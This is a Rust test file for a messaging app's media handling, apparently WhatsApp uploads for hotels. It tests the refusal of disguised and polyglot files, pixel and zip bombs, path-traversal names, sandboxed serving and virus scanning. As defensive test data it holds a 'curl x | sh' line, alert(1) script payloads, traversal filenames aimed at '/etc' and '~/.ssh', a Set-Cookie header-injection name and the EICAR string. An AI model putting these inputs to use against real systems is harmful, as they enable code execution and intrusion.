//! Files and media.

mod crash;
mod places;
mod quotas;
mod samples;

use crate::{
    media::{PHOTO, pdf, scene, scene_with},
    stage::Agent,
};
use samples::{Sample, archive, samples};
use serde_json::json;
use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
};

/// State of each document by its name.
async fn states(ana: &Agent) -> BTreeMap<String, String> {
    let messages = ana.messages(&ana.the_conversation().await).await;
    messages
        .iter()
        .map(|message| {
            let media = &message["media"];
            (media["filename"].as_str().unwrap().to_owned(), media["state"].as_str().unwrap().to_owned())
        })
        .collect()
}

/// What the content is wrongly called: names that other contents have, and names that no taken content has.
fn lies(sample: &Sample, all: &[Sample]) -> Vec<(String, String)> {
    let others = all.iter().filter(|other| other.extension != sample.extension);
    let mut lies: Vec<_> =
        others.map(|other| (other.extension.to_owned(), other.mime_type.to_owned())).collect();
    // Words may rightly be a table or a text.
    lies.retain(|(extension, _)| {
        !(["txt", "csv"].contains(&sample.extension) && ["txt", "csv"].contains(&extension.as_str()))
    });
    // Some recorders give sound the brand of films.
    lies.retain(|(extension, _)| sample.extension != "mp4" || extension != "m4a");
    lies.extend(
        [("exe", "application/x-msdownload"), ("html", "text/html"), ("svg", "image/svg+xml")]
            .map(|(extension, mime_type)| (extension.to_owned(), mime_type.to_owned())),
    );
    lies
}

/// A file that is two things: this content, and after it or in it another one.
fn polyglots() -> Vec<(String, &'static str, Vec<u8>)> {
    let mut polyglots = Vec::new();
    for sample in
        samples().into_iter().filter(|it| ["png", "jpg", "gif", "webp", "mp3", "pdf"].contains(&it.extension))
    {
        let jar = archive(&[("META-INF/MANIFEST.MF", b"Main-Class: X")]);
        let content = [sample.content.clone(), jar].concat();
        polyglots.push((format!("arquivo-atras.{}", sample.extension), sample.mime_type, content));
    }
    let script = b"GIF89a/*<script>alert(1)</script>*/=1;".to_vec();
    polyglots.push(("script.gif".to_owned(), "image/gif", script));
    polyglots.push((
        "pagina.txt".to_owned(),
        "text/plain",
        b"  <!DOCTYPE html><script>alert(1)</script>".to_vec(),
    ));
    polyglots.push(("concha.txt".to_owned(), "text/plain", b"#!/bin/sh\ncurl x | sh\n".to_vec()));
    let late_pdf = [b"\xff\xd8\xff\xe0 ".to_vec(), pdf("dentro de uma foto")].concat();
    polyglots.push(("foto.jpg".to_owned(), "image/jpeg", late_pdf));
    polyglots
}

#[tokio::test]
async fn f01_120_files_that_are_not_what_they_say_are_refused_and_60_honest_ones_taken() {
    let (app, _, ana, helena) = scene().await;
    let all = samples();
    let mut files: Vec<(String, String, Vec<u8>)> = Vec::new();
    for (number, sample) in all.iter().enumerate() {
        let lies = lies(sample, &all);
        // Six of each, others for every content.
        for (turn, (extension, mime_type)) in lies.iter().cycle().skip(number).step_by(4).take(6).enumerate()
        {
            files.push((
                format!("mentira-{number}-{turn}.{extension}"),
                mime_type.clone(),
                sample.content.clone(),
            ));
        }
    }
    files.extend(
        polyglots().into_iter().map(|(name, mime_type, content)| {
            (format!("mentira-dupla-{name}"), mime_type.to_owned(), content)
        }),
    );
    let bad = files.len();
    for (number, Sample { extension, mime_type, content }) in all.iter().enumerate() {
        let upper = extension.to_uppercase();
        files.push((format!("certo-{number}.{extension}"), (*mime_type).to_owned(), content.clone()));
        files.push((
            format!("certo-{number}.{upper}"),
            "application/octet-stream".to_owned(),
            content.clone(),
        ));
        files.push((format!("certo {number}"), (*mime_type).to_owned(), content.clone()));
    }
    assert!(bad >= 120 && files.len() - bad >= 60, "{bad} bad ones of {}", files.len());
    for (name, mime_type, content) in &files {
        helena.sends_document(name, mime_type, content.clone()).await;
    }
    app.run_jobs().await;

    let states = states(&ana).await;
    assert_eq!(states.len(), files.len());
    let wrong: Vec<_> = states
        .iter()
        .filter(|(name, state)| *state != if name.starts_with("mentira") { "refused" } else { "stored" })
        .collect();
    assert!(wrong.is_empty(), "{wrong:?}");
    println!("f01: {bad} bad ones refused, {} honest ones taken", files.len() - bad);
}

#[tokio::test]
async fn f02_pictures_and_archives_that_would_fill_the_memory_are_refused() {
    let (app, _, ana, helena) = scene().await;
    // The head of 50,000 by 50,000 pixels, with the sum of its bytes set right.
    let mut wide = PHOTO.to_vec();
    wide[16..20].copy_from_slice(&50_000_u32.to_be_bytes());
    wide[20..24].copy_from_slice(&50_000_u32.to_be_bytes());
    let sum = crc(&wide[12..29]);
    wide[29..33].copy_from_slice(&sum.to_be_bytes());
    // A document that says that it unpacks to four gigabytes.
    let mut bomb = archive(&[("[Content_Types].xml", b"<?xml?>"), ("word/document.xml", b"0000")]);
    let entry = bomb.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    bomb[entry + 24..entry + 28].copy_from_slice(&u32::MAX.to_le_bytes());
    let docx = samples().into_iter().find(|it| it.extension == "docx").unwrap().mime_type;
    helena.sends_document("larga.png", "image/png", wide).await;
    helena.sends_document("bomba.docx", docx, bomb).await;
    app.run_jobs().await;
    let messages = ana.messages(&ana.the_conversation().await).await;
    let reasons: Vec<_> = messages.iter().map(|message| message["media"]["reason"].clone()).collect();
    assert_eq!(reasons, [json!("too_many_pixels"), json!("suspicious")]);
}

/// CRC-32 as PNG has it (ISO 15948, annex D).
fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(
            sum ^ u32::from(*byte),
            |sum, _| if sum & 1 == 1 { 0xedb8_8320 ^ (sum >> 1) } else { sum >> 1 },
        )
    })
}

fn files_below(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() { found.extend(files_below(&path)) } else { found.push(path) }
    }
    found
}

#[tokio::test]
async fn f03_files_lie_under_names_of_our_own_sealed_and_nowhere_else() {
    let (app, hotel, ana, helena) = scene().await;
    let before = files_below(app.folder());
    let ways_out = [
        "../../../etc/cron.d/x.pdf",
        "..\\..\\windows\\x.pdf",
        "/etc/passwd.pdf",
        "C:\\x.pdf",
        "....//....//x.pdf",
        "%2e%2e%2f%2e%2e%2fx.pdf",
        "x\0.pdf",
        "~/.ssh/authorized_keys.pdf",
        "con.pdf",
        "a/../../b.pdf",
    ];
    for number in 0..200 {
        let name = format!("{number}{}", ways_out[number % ways_out.len()]);
        let name = if number < 100 { name.trim_start_matches(char::is_numeric).to_owned() } else { name };
        helena.sends_document(&name, "application/pdf", pdf(&format!("número {number}"))).await;
    }
    app.run_jobs().await;
    assert_eq!(ana.messages(&ana.the_conversation().await).await.len(), 200);
    let store = app.folder().join("media").join(hotel.id.0.simple().to_string());
    let strange: Vec<_> = files_below(app.folder())
        .into_iter()
        .filter(|path| !before.contains(path) && !path.starts_with(&store))
        .filter(|path| !path.to_string_lossy().contains(".db"))
        .collect();
    assert!(strange.is_empty(), "{strange:?}");
    let stored = files_below(&store);
    assert_eq!(stored.len(), 200);
    for file in stored {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        assert!(name.len() == 32 && name.bytes().all(|byte| byte.is_ascii_hexdigit()), "{name}");
        let bytes = std::fs::read(&file).unwrap();
        assert!(!bytes.windows(4).any(|four| four == b"%PDF"), "{name} is not sealed");
        assert!(!bytes.windows(7).any(|seven| seven == b"Catalog"), "{name} is not sealed");
    }
}

#[tokio::test]
async fn f04_a_file_is_saved_or_shown_and_never_run() {
    let (app, _, ana, helena) = scene().await;
    let hostile_name = "nota\r\nSet-Cookie: a=b\r\n\r\n<script>.pdf";
    helena.sends_document(hostile_name, "application/pdf", pdf("/JS (app.alert(1))")).await;
    app.run_jobs().await;
    let document = ana.newest_file().await;
    app.passes(1000);
    helena.sends_photo("image/png", PHOTO).await;
    app.run_jobs().await;
    let photo = ana.newest_file().await;
    for (file, dest, shown) in [
        (&document, "document", "attachment"),
        (&document, "iframe", "attachment"),
        (&document, "embed", "attachment"),
        (&document, "image", "attachment"),
        (&photo, "document", "attachment"),
        (&photo, "image", "inline"),
        (&photo, "", "attachment"),
    ] {
        let (answer, _) = ana.opens(&file["url"], &[("sec-fetch-dest", dest)]).await;
        assert_eq!(answer.status, 200);
        let disposition = &answer.headers["content-disposition"];
        assert!(disposition.starts_with(&format!("{shown}; filename=\"")), "{dest}: {disposition}");
        assert!(answer.headers["content-security-policy"].ends_with("; sandbox"), "{:?}", answer.headers);
        assert!(!answer.headers.contains_key("set-cookie"), "{:?}", answer.headers);
        assert_eq!(answer.headers["cache-control"], "no-store");
    }
    let (answer, _) = ana.opens(&document["url"], &[]).await;
    assert!(
        answer.headers["content-disposition"].contains("filename*=UTF-8''notaSet-Cookie%3A%20a%3Db"),
        "{:?}",
        answer.headers
    );
    // What runs in a browser is not even taken.
    for (name, mime_type, content) in [
        (
            "desenho.svg",
            "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        ),
        ("pagina.html", "text/html", "<html><script>alert(1)</script></html>"),
        ("pagina.txt", "text/plain", "<html><script>alert(1)</script></html>"),
    ] {
        app.passes(1000);
        helena.sends_document(name, mime_type, content).await;
        app.run_jobs().await;
        assert_eq!(ana.newest_file().await["state"], "refused", "{name}");
    }
}

/// What this process has in memory now, and the most that it had since it was asked to forget.
fn resident() -> (u64, u64) {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let of = |name: &str| -> u64 {
        let line = status.lines().find(|line| line.starts_with(name)).unwrap();
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    };
    (of("VmRSS:"), of("VmHWM:"))
}

#[tokio::test]
async fn f02_a_file_of_100_megabytes_comes_and_goes_in_little_memory() {
    const SIZE: usize = 100 * 1024 * 1024;
    let (app, _, ana, helena) = scene().await;
    let mut document = pdf("grande");
    document.resize(SIZE - 7, b'x');
    document.extend_from_slice(b"\n%%EOF\n");
    assert_eq!(document.len(), SIZE);
    helena.sends_document("grande.pdf", "application/pdf", document).await;
    zelo::inbound::Processing::new(app.app.clone()).drain().await.unwrap();
    // The simulator has the file; from here on the most is what Zelo adds.
    std::fs::write("/proc/self/clear_refs", "5").unwrap();
    let (before, _) = resident();
    app.run_jobs().await;
    let (_, fetching) = resident();
    let file = ana.newest_file().await;
    assert_eq!((&file["state"], &file["size"]), (&json!("stored"), &json!(SIZE)));

    std::fs::write("/proc/self/clear_refs", "5").unwrap();
    let (before_reading, _) = resident();
    let token = ana.token().await;
    let url = format!("{}{}", app.web.url, file["url"].as_str().unwrap());
    let mut response = app.web.request(reqwest::Method::GET, &url).bearer_auth(token).send().await.unwrap();
    let mut read = 0;
    while let Some(chunk) = response.chunk().await.unwrap() {
        read += chunk.len();
    }
    assert_eq!(read, SIZE);
    let (_, reading) = resident();
    let (fetched, shown) = (fetching.saturating_sub(before), reading.saturating_sub(before_reading));
    println!("f02: +{fetched} kB while 100 MB came in, +{shown} kB while they went out");
    assert!(fetched <= 64 * 1024, "+{fetched} kB while it came in");
    assert!(shown <= 64 * 1024, "+{shown} kB while it went out");
}

/// The database says `stored` only when the file is on disk whole: whatever the disk refuses leaves it waiting.
#[tokio::test]
async fn f07_nothing_is_called_stored_that_is_not_on_disk() {
    let (app, hotel, ana, helena) = scene().await;
    let store = app.folder().join("media");
    // Where the folder of the files should be is a file: nothing can be written.
    std::fs::write(&store, b"").unwrap();
    helena.sends_photo("image/png", PHOTO).await;
    app.run_jobs().await;
    assert_eq!(ana.newest_file().await["state"], "pending");
    std::fs::remove_file(&store).unwrap();
    app.passes(60_000);
    app.run_jobs().await;
    let file = ana.newest_file().await;
    assert_eq!(file["state"], "stored");
    let folder = store.join(hotel.id.0.simple().to_string());
    let whole = files_below(&folder).into_iter().find(|path| path.extension().is_none()).unwrap();
    assert_eq!(std::fs::metadata(&whole).unwrap().len() as usize, 2 + PHOTO.len() + 16);
    assert_eq!(files_below(&store.join("spool")), Vec::<PathBuf>::new());

    // A file that was cut off or changed afterwards is noticed, and nothing of it is shown as if it were right.
    let mut bytes = std::fs::read(&whole).unwrap();
    bytes[10] ^= 1;
    std::fs::write(&whole, &bytes).unwrap();
    let token = ana.token().await;
    let url = format!("{}{}", app.web.url, file["url"].as_str().unwrap());
    let request = app.web.request(reqwest::Method::GET, &url).bearer_auth(token);
    let read = async { request.send().await?.bytes().await };
    assert!(read.await.is_err(), "the connection breaks instead of giving wrong bytes");
}

#[tokio::test]
async fn f07_what_a_power_cut_left_half_written_is_swept_and_what_is_being_written_stays() {
    let (app, ..) = scene().await;
    let spool = app.folder().join("media").join("spool");
    std::fs::create_dir_all(&spool).unwrap();
    let (left, fresh) = (spool.join("left"), spool.join("fresh"));
    for path in [&left, &fresh] {
        std::fs::write(path, b"half of a file").unwrap();
    }
    let file = std::fs::File::options().write(true).open(&left).unwrap();
    let a_day = std::time::Duration::from_secs(25 * 3600);
    file.set_modified(file.metadata().unwrap().modified().unwrap() - a_day).unwrap();
    zelo::media::sweep(&app.app).await.unwrap();
    assert_eq!(files_below(&spool), [fresh]);
}

/// Bytes in pieces, as a browser sends a large file.
fn pieces(size: usize) -> reqwest::Body {
    let head = pdf("grande");
    let rest = size - head.len() - 7;
    let whole = std::iter::repeat_n(bytes::Bytes::from_static(&[b'x'; 65_536]), rest / 65_536);
    let last = [vec![b'x'; rest % 65_536], b"\n%%EOF\n".to_vec()].concat();
    let all = std::iter::once(bytes::Bytes::from(head)).chain(whole).chain([bytes::Bytes::from(last)]);
    reqwest::Body::wrap_stream(futures_util::stream::iter(all.map(Ok::<_, std::io::Error>)))
}

/// A Meta that takes files and forgets them: what it had in memory would be counted with Zelo's.
async fn forgetful_meta(taken: std::sync::Arc<std::sync::atomic::AtomicUsize>) -> String {
    use axum::{Json, Router, extract::DefaultBodyLimit, extract::Multipart, routing::post};
    let upload = async move |mut form: Multipart| {
        while let Some(mut field) = form.next_field().await.unwrap() {
            let is_file = field.name() == Some("file");
            while let Some(bytes) = field.chunk().await.unwrap() {
                if is_file {
                    taken.fetch_add(bytes.len(), std::sync::atomic::Ordering::SeqCst);
                }
            }
        }
        Json(json!({"id": "1234567890123456"}))
    };
    let send = async || {
        Json(
            json!({"messaging_product": "whatsapp", "contacts": [{"input": "+5511987654321", "wa_id": "5511987654321"}],
            "messages": [{"id": "wamid.HBgNNTUxMTk4NzY1NDMyMRUCABEYEjQ3MTE="}]}),
        )
    };
    let router = Router::new()
        .route("/{version}/{id}/media", post(upload).layer(DefaultBodyLimit::disable()))
        .route("/{version}/{id}/messages", post(send));
    crate::stage::serve(router).await
}

#[tokio::test]
async fn f02_a_file_of_100_megabytes_is_sent_in_little_memory() {
    const SIZE: usize = 100 * 1024 * 1024;
    let taken = std::sync::Arc::default();
    let meta = forgetful_meta(std::sync::Arc::clone(&taken)).await;
    let (app, _, ana, helena) = scene_with(&[("whatsapp.graph_base_url", &meta)]).await;
    helena.says("manda o projeto").await;
    app.run_jobs().await;
    let conversation = ana.the_conversation().await["id"].as_str().unwrap().to_owned();
    let token = ana.token().await;
    std::fs::write("/proc/self/clear_refs", "5").unwrap();
    let (before, _) = resident();
    let url = format!("{}/api/v1/conversations/{conversation}/media?filename=projeto.pdf", app.web.url);
    let request = app.web.request(reqwest::Method::POST, &url).bearer_auth(&token);
    let file =
        app.web.answer(request.header("content-type", "application/pdf").body(pieces(SIZE))).await.ok();
    assert_eq!(file["size"], SIZE);
    let document = json!({"type": "document", "document": {"id": file["id"]}});
    ana.post(&format!("/conversations/{conversation}/messages"), &document).await.ok();
    app.run_jobs().await;
    let (_, most) = resident();
    assert_eq!(taken.load(std::sync::atomic::Ordering::SeqCst), SIZE);
    assert_eq!(ana.newest().await["status"], "sent");
    println!("f02: +{} kB while 100 MB were uploaded and taken to Meta", most.saturating_sub(before));
    assert!(most.saturating_sub(before) <= 64 * 1024, "+{} kB", most.saturating_sub(before));
}

#[tokio::test]
async fn f02_an_upload_is_cut_at_the_limit() {
    let (app, hotel, ana, helena) = scene_with(&[("media.largest_megabytes", "2")]).await;
    helena.says("manda o projeto").await;
    app.run_jobs().await;
    let conversation = ana.the_conversation().await["id"].as_str().unwrap().to_owned();
    let url = format!("{}/api/v1/conversations/{conversation}/media?filename=projeto.pdf", app.web.url);
    // Ten gigabytes are announced; the answer comes long before they do.
    let endless = futures_util::stream::iter(
        std::iter::repeat_n(bytes::Bytes::from_static(&[b'x'; 65_536]), 163_840).map(Ok::<_, std::io::Error>),
    );
    std::fs::write("/proc/self/clear_refs", "5").unwrap();
    let (before, _) = resident();
    let request = app.web.request(reqwest::Method::POST, &url).bearer_auth(ana.token().await);
    let sent = request
        .header("content-type", "application/pdf")
        .body(reqwest::Body::wrap_stream(endless))
        .send()
        .await;
    // The connection may break before the answer is read.
    if let Ok(answer) = sent {
        assert_eq!(answer.status().as_u16(), 413);
    }
    let (_, most) = resident();
    assert!(most.saturating_sub(before) <= 64 * 1024, "+{} kB", most.saturating_sub(before));
    assert_eq!(files_below(&app.folder().join("media")), Vec::<PathBuf>::new(), "nothing of it is left");
    assert_eq!(app.count(Some(hotel.id.0), "select count(*) from media where tenant_id = $1").await, 0);
}

/// A clamd that knows one thing, the test file of EICAR, and says so in its own protocol.
async fn scanner() -> String {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let serve = async move {
        loop {
            let (mut caller, _) = listener.accept().await.unwrap();
            let mut hello = [0; 10];
            caller.read_exact(&mut hello).await.unwrap();
            assert_eq!(&hello, b"zINSTREAM\0");
            let mut content = Vec::new();
            loop {
                let length = caller.read_u32().await.unwrap() as usize;
                if length == 0 {
                    break;
                }
                let from = content.len();
                content.resize(from + length, 0);
                caller.read_exact(&mut content[from..]).await.unwrap();
            }
            let is_bad = content.windows(EICAR.len()).any(|part| part == EICAR.as_bytes());
            let answer: &[u8] =
                if is_bad { b"stream: Eicar-Test-Signature FOUND\0" } else { b"stream: OK\0" };
            caller.write_all(answer).await.unwrap();
        }
    };
    #[expect(clippy::disallowed_methods, reason = "it ends with the test's runtime")]
    drop(tokio::spawn(serve));
    address
}

/// Put together here, so that no scanner finds it in this file.
const EICAR: &str = concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

#[tokio::test]
async fn f05_what_the_scanner_finds_is_never_given_out() {
    let (app, _, ana, helena) = scene_with(&[("media.scanner", &scanner().await)]).await;
    for (name, content, state) in [
        ("limpo.txt", "Segue a lista.", "stored"),
        ("eicar.txt", EICAR, "refused"),
        ("dentro.pdf", EICAR, "refused"),
    ] {
        let content = if name.ends_with(".pdf") { pdf(content) } else { content.as_bytes().to_vec() };
        helena.sends_document(name, "application/octet-stream", content).await;
        app.run_jobs().await;
        let file = ana.newest_file().await;
        assert_eq!(file["state"], state, "{name}: {file}");
        if state == "refused" {
            assert_eq!(file["reason"], "infected");
            assert_eq!(ana.get(&format!("/media/{}", file["id"].as_str().unwrap())).await.status, 410);
        }
        app.passes(1000);
    }
    let answer = ana.uploads("?filename=eicar.txt", "text/plain", EICAR).await;
    assert_eq!((answer.status, &answer.body["errors"][0]["code"]), (422, &json!("infected")));
    let stored = files_below(&app.folder().join("media"));
    assert_eq!(stored.len(), 1, "{stored:?}");
}

#[tokio::test]
async fn f05_while_the_scanner_is_away_files_wait_unless_the_operator_wants_them_taken() {
    // Nobody listens there.
    for (required, state) in [("true", "pending"), ("false", "stored")] {
        let settings = [("media.scanner", "127.0.0.1:9"), ("media.scanner_required", required)];
        let (app, _, ana, helena) = scene_with(&settings).await;
        app.may_leave_work();
        helena.sends_photo("image/png", PHOTO).await;
        app.run_jobs().await;
        assert_eq!(ana.newest_file().await["state"], state);
    }
}
